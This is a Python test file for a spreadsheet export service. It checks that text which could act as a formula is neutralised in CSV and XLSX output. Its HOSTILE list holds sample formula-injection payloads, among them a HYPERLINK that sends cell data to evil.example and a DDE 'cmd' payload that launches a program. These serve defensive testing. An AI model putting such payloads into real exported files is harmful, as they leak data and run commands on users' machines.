"""Exported cells cannot carry a formula (issue 11, item 9): CSV text that begins like
a formula gets a leading quote, XLSX text is stored as a string, numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook  # type: ignore[import-untyped]

from services.spreadsheet import FORMULA_STARTS, csv_cell, csv_rows, neutralise, xlsx_append

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A3,"Pay here")',
    "@SUM(A1:A9)",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",  # leading spaces, which some programs strip on import
    "\n@SUM(1)",
]
HARMLESS = ["幸福维修队", "RO-261122-0007", "2031-05-06 10:00", "a=b", "email@example.org", ""]


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def round_trip_xlsx(rows: list[list[object]]) -> list[list[tuple[object, str]]]:
    book = Workbook()
    sheet = book.active
    for row in rows:
        xlsx_append(sheet, row)  # type: ignore[arg-type]
    output = io.BytesIO()
    book.save(output)
    loaded = load_workbook(io.BytesIO(output.getvalue())).active
    return [[(cell.value, cell.data_type) for cell in row] for row in loaded.iter_rows()]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_quoted_in_csv(text: str) -> None:
    assert neutralise(text) == "'" + text
    [[cell]] = read_csv(csv_rows([[text]]))
    assert cell == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_is_left_alone(text: str) -> None:
    assert neutralise(text) == text
    assert csv_cell(text) == text


def test_numbers_stay_numbers_in_csv_even_negative() -> None:
    assert csv_cell(Decimal("-3.00")) == Decimal("-3.00")
    assert csv_cell(-1) == -1 and csv_cell(2.5) == 2.5
    assert csv_cell(None) == ""
    assert csv_cell(True) == "True"  # not a number to a spreadsheet
    [row] = read_csv(csv_rows([[Decimal("-3.00"), -1, "-1"]]))
    assert row == ["-3.00", "-1", "'-1"]


def test_xlsx_text_is_a_string_never_a_formula_and_numbers_are_numbers() -> None:
    [hostile, numbers] = round_trip_xlsx(
        [[*HOSTILE, "a\x01b"], [Decimal("12.50"), -3, 1.5, "", None, "-3"]]
    )
    cleaned = [text.replace("\r", "\n") for text in HOSTILE]  # XML normalises a lone CR
    assert [value for value, _ in hostile] == [*cleaned, "ab"]  # control characters dropped
    assert {kind for _, kind in hostile} == {"s"}
    assert numbers[:3] == [(12.5, "n"), (-3, "n"), (1.5, "n")]
    assert numbers[3][0] is None and numbers[4][0] is None
    assert numbers[5] == ("-3", "s")


def test_xlsx_formula_like_cells_are_quote_prefixed() -> None:
    book = Workbook()
    sheet = book.active
    row = xlsx_append(sheet, ["=1+1", "plain"])
    assert row == 1
    assert sheet.cell(1, 1).data_type == "s" and sheet.cell(1, 1).quotePrefix is True
    assert sheet.cell(1, 2).quotePrefix is False
    assert xlsx_append(sheet, ["next"]) == 2


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=30))
def test_no_text_ever_reads_back_as_a_formula(text: str) -> None:
    [[cell]] = read_csv(csv_rows([[text]])) or [[""]]
    assert not cell.lstrip(" \n\u3000").startswith(FORMULA_STARTS)
    assert cell in (text, "'" + text) or "\r" in text or "\n" in text
    cells = [cell for row in round_trip_xlsx([[text, 1]]) for cell in row]
    assert cells[-1] == (1, "n")
    # Text is a string; nothing at all when only control characters were in it.
    assert cells[0][1] == "s" or cells[0][0] is None
